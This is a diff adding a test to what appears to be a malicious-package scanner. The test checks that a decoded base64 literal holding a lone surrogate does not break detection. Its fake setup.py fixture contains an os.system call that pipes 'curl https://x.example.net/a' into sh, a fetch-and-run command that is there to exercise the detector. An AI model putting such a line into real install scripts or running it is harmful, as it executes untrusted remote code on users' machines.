@@ -129,6 +129,19 @@ def test_base64_literal_that_decodes_to_code_is_hidden_code(engine: Engine) -> N
         assert _types(evidence) == {expected}
 
 
+def test_lone_surrogate_in_a_decoded_literal_hides_no_call(engine: Engine) -> None:
+    # "\\ud800" in the source is a str no strict UTF-8 encoder takes: one such literal
+    # must not make the rule, and those that read its calls, fail for the whole file
+    setup_py = (
+        "import base64, os\n"
+        "base64.b64decode('\\ud800AAAAAAAAAAAAAAAA')\n"
+        "os.system('curl https://x.example.net/a | sh')\n"
+    )
+    analysis = engine.analyze(sdist(setup_py=setup_py))
+    assert analysis.errors == ()
+    assert {"decode", "process"} <= _types(analysis.indicators["suspicious_setup_commands_rule"])
+
+
 def test_base64_literal_hiding_a_host_path_or_command_is_a_hidden_string(engine: Engine) -> None:
     import base64
 
